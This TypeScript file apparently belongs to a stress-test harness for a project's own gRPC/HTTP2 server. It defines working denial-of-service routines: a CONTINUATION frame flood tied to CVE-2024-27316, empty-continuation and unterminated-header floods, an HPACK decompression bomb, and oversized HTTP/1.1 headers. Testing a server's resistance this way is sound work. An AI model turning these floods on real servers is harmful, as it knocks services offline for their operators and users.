import { systemClock } from '../../../../src/domain/clock.ts';
import { type Attack, KINDS, type Target } from '../attack.ts';
import { FLAG, frame, grpcHead, integer, TYPE, text } from '../frames.ts';
import { openLine } from '../line.ts';
import type { Tally } from '../tally.ts';

const CONNECTIONS = 8;
const PATH = '/carillon.v1.EventService/Publish';
/** The most that a frame may hold unless it was agreed otherwise. */
const FRAME_MAX = 16_384;

/** Writes one thing after the other on each of some connections, until the server has had enough. */
async function each(
  { port, until }: Target,
  tally: Tally,
  times: number,
  written: (n: number) => Buffer,
): Promise<void> {
  const attack = async (): Promise<void> => {
    const line = await openLine({ port, tally, http2: [] });
    for (let n = 0; n < times && systemClock.monotonic() < until; n++) {
      tally.sent++;
      if (!(await line.write(written(n)))) break;
    }
    await line.settle();
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, attack));
}

const FILLER = Buffer.concat([Buffer.of(0), text('x-filler'), text('y'.repeat(FRAME_MAX - 100))]);

/** A field of 4 KiB that is indexed once and named 16,000 times: 64 MiB in 20 KB. */
function bomb(stream: number): Buffer {
  const name = 'x-bomb';
  const kept = Buffer.concat([Buffer.of(0x40), text(name), text('z'.repeat(4_096 - name.length - 32))]);
  const named = Buffer.alloc(12_000, integer(62, 7, 0x80));
  return frame(TYPE.headers, FLAG.endHeaders, stream, Buffer.concat([grpcHead(PATH), kept, named]));
}

export const heads: readonly Attack[] = [
  {
    name: 'continuation-flood',
    what: 'a head that goes on and on in CONTINUATION frames of 16 KiB (CVE-2024-27316), 4,000 on 8 connections each',
    kinds: KINDS,
    run: (target, tally) =>
      each(target, tally, 4_000, (n) =>
        n === 0
          ? frame(TYPE.headers, 0, 1, grpcHead(PATH))
          : frame(TYPE.continuation, 0, 1, FILLER.subarray(0, FRAME_MAX)),
      ),
  },
  {
    name: 'empty-continuations',
    what: 'the same with empty frames, 100,000 on 8 connections each',
    kinds: KINDS,
    run: (target, tally) => {
      const hundred = Buffer.concat(Array.from({ length: 100 }, () => frame(TYPE.continuation, 0, 1)));
      return each(target, tally, 1_000, (n) =>
        n === 0 ? frame(TYPE.headers, 0, 1, grpcHead(PATH)) : hundred,
      );
    },
  },
  {
    name: 'header-flood',
    what: 'calls with heads of 15 KiB that are never ended, 2,000 on 8 connections each',
    kinds: KINDS,
    run: (target, tally) => {
      const head = grpcHead(PATH, [['x-long', 'y'.repeat(15_000)]]);
      return each(target, tally, 2_000, (n) => frame(TYPE.headers, FLAG.endHeaders, 2 * n + 1, head));
    },
  },
  {
    name: 'hpack-bomb',
    what: 'heads of 16 KB that are 48 MB when they are decoded, 500 on 8 connections each',
    kinds: KINDS,
    run: (target, tally) => each(target, tally, 500, (n) => bomb(2 * n + 1)),
  },
  {
    name: 'http1-headers',
    what: 'HTTP/1.1: a head of 20,000 fields, and one of a megabyte, on 500 connections',
    kinds: ['shared'],
    async run({ port, until }, tally) {
      const begin = `GET / HTTP/1.1\r\nhost: localhost\r\n`;
      const many = `${begin}${'x: 1\r\n'.repeat(20_000)}\r\n`;
      const long = `${begin}x: ${'a'.repeat(1_000_000)}\r\n\r\n`;
      for (let n = 0; n < 500 && systemClock.monotonic() < until; n++) {
        const line = await openLine({ port, tally });
        tally.sent++;
        await line.write(n % 2 === 0 ? many : long);
        await line.settle();
      }
    },
  },
];
